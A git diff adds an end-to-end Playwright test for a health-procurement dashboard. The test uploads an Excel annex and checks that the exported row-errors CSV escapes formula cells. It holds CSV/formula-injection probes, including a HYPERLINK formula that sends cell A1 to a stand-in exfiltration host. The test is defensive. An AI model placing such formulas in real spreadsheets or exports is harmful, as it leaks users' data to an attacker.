@@ -1,24 +1,51 @@
+import ExcelJS from 'exceljs';
 import { createHash } from 'node:crypto';
-import { mkdir } from 'node:fs/promises';
+import { mkdir, readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { Browser, BrowserContext, chromium, Page } from 'playwright-core';
-import { RunningService, ServiceStack, waitFor } from '@imb/testing';
+import { RunningService, ServiceStack, waitFor, waitForJob } from '@imb/testing';
 
 /**
  * The dashboard in real headless Chromium (Debian's package, driven by playwright-core), against
- * real gateway, transfer and hr processes on Kafka, PostgreSQL and Redis.
+ * real gateway, transfer, hr and procurement processes on Kafka, PostgreSQL and Redis.
  *
  * Hidalgo operates under IMSS-BIENESTAR since 2023 (the real joining history), so its gates are all
  * closed. To have a gate to close, the federal coordinator first suspends its transfer and
  * restarts it at DIAGNOSIS through the API, and closes three of the four DIAGNOSIS items; the
  * state coordinator of Hidalgo then closes the fourth in the browser with an uploaded document,
  * advances to AGREEMENT, and the national map and table (open in another tab) show it within 1 s.
+ *
+ * A real procurement process imports (dry run) an annex whose institution titles and values a
+ * spreadsheet would run as formulas; its row errors, saved as CSV from the jobs centre, keep them text.
  */
 const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
 const ARTIFACTS = join(__dirname, 'artifacts');
 const HIDALGO = '13';
 const LAST_ITEM = 'equipment-inventory';
 const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
+/** The dashboard's procurement officer (button[data-identity="procurement"]). */
+const PROCUREMENT_OFFICER = 'carlos.compras';
+const EXERCISE = '2031-2032';
+const HYPERLINK = '=HYPERLINK("https://exfiltra.example/?d="&A1,"Ver")';
+
+/**
+ * A demand annex (titles in row 3, CLAVE/DESCRIPCIÓN/MIN/MAX in row 4, data from row 5) with three
+ * institutions titled as formulas. Row 5 is good; each of rows 6-9 is refused with one row error:
+ * a word as the first institution's MIN, a negative MAX of the second, MIN > MAX in the third, and
+ * no description.
+ */
+async function formulaAnnex(): Promise<Buffer> {
+  const wb = new ExcelJS.Workbook();
+  const ws = wb.addWorksheet('Anexo');
+  ws.getRow(3).values = [null, null, HYPERLINK, null, '@SUM(1)', null, '+1'];
+  ws.getRow(4).values = ['CLAVE', 'DESCRIPCIÓN', 'MIN', 'MAX', 'MIN', 'MAX', 'MIN', 'MAX'];
+  ws.addRow(['010.000.0101.00', 'PARACETAMOL 500 MG TABLETA', 10, 20, 1, 2, 3, 4]);
+  ws.addRow(['010.000.0102.00', 'IBUPROFENO 400 MG TABLETA', 'muchos', 20, 1, 2, 3, 4]);
+  ws.addRow(['010.000.0103.00', 'NAPROXENO 250 MG TABLETA', 1, 2, 3, -2, 3, 4]);
+  ws.addRow(['010.000.0104.00', 'OMEPRAZOL 20 MG CAPSULA', 1, 2, 3, 4, 5, 3]);
+  ws.addRow(['010.000.0105.00', '', 1, 2, 3, 4, 3, 4]);
+  return Buffer.from(await wb.xlsx.writeBuffer());
+}
 
 describe('dashboard (headless Chromium)', () => {
   const stack = new ServiceStack('e2e_dash');
@@ -59,8 +86,8 @@ describe('dashboard (headless Chromium)', () => {
 
   beforeAll(async () => {
     await mkdir(ARTIFACTS, { recursive: true });
-    const [transfer, hr] = await Promise.all([stack.start('transfer'), stack.start('hr')]);
-    gateway = await stack.start('gateway', { TRANSFER_URL: transfer.url, HR_URL: hr.url });
+    const [transfer, hr, procurement] = await Promise.all([stack.start('transfer'), stack.start('hr'), stack.start('procurement')]);
+    gateway = await stack.start('gateway', { TRANSFER_URL: transfer.url, HR_URL: hr.url, PROCUREMENT_URL: procurement.url });
     browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
   });
 
@@ -158,5 +185,47 @@ describe('dashboard (headless Chromium)', () => {
     expect(refused.status).toBe(403);
     expect(refused.body.message).toMatch(/state 13/);
     expect((await api('GET', `/transfers/${HIDALGO}`, federal)).body.stage).toBe('AGREEMENT');
+  });
+
+  it('saves the row errors of a job as a CSV whose cells no spreadsheet runs as formulas', async () => {
+    // A real demand import (a dry run) through the gateway: procurement names a quantity's row
+    // error after the annex's institution title ("<title> MIN"), and quotes the bad value, so an
+    // uploaded annex decides how the cells of the saved CSV begin.
+    const officer = await devToken(PROCUREMENT_OFFICER, ['procurement-officer']);
+    const created = await api('POST', '/procurement/exercises', officer, { code: EXERCISE, name: 'Anexo con fórmulas en sus títulos' });
+    expect(created.status).toBe(201);
+    const form = new FormData();
+    form.append('file', new Blob([await formulaAnnex()]), 'anexo-formulas.xlsx');
+    const uploaded = await fetch(`${gateway.url}/api/procurement/exercises/${EXERCISE}/demand/imports?dryRun=true`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${officer}` },
+      body: form,
+    });
+    expect(uploaded.status).toBe(202);
+    const { jobId } = (await uploaded.json()) as { jobId: string };
+    const job = await waitForJob<any>(gateway, jobId, officer, 60000);
+    expect([job.status, job.failureReason ?? null, job.kind, job.createdBy, job.errorCount]).toEqual(['completed', null, 'procurement.demand-import', PROCUREMENT_OFFICER, 4]);
+    expect(job.result).toMatchObject({ dryRun: true, rows: 5, refusedRows: 4, claves: 1, institutions: 3 });
+    expect(job.result.layout.institutions.map((i: any) => i.name)).toEqual([HYPERLINK, '@SUM(1)', '+1']);
+
+    // The procurement officer saves them from the jobs centre.
+    const page = await loginAs('procurement');
+    await page.goto(`${gateway.url}/#/jobs`);
+    const row = page.locator(`tr[data-job="${jobId}"]`);
+    await row.locator('td[data-col="errors"] button.link').waitFor();
+    expect(await row.locator('td[data-col="errors"]').textContent()).toMatch(/^4\s/);
+    const download = page.waitForEvent('download');
+    await row.locator('td[data-col="errors"] button.link').click();
+    const saved = await download;
+    expect(saved.suggestedFilename()).toBe(`${jobId}-errors.csv`);
+    expect((await readFile(await saved.path(), 'utf8')).split('\r\n')).toEqual([
+      'row,field,message',
+      `6,"'=HYPERLINK(""https://exfiltra.example/?d=""&A1,""Ver"") MIN","""muchos"" is not a whole number of pieces (digits with optional thousands separators)"`,
+      `7,"'@SUM(1) MAX","'-2 is negative"`,
+      `8,"'+1 MIN",MIN 5 is greater than MAX 3`,
+      '9,DESCRIPCIÓN,the description is missing',
+      '',
+    ]);
+    await shot(page, '7-jobs-errors-csv');
   });
 });
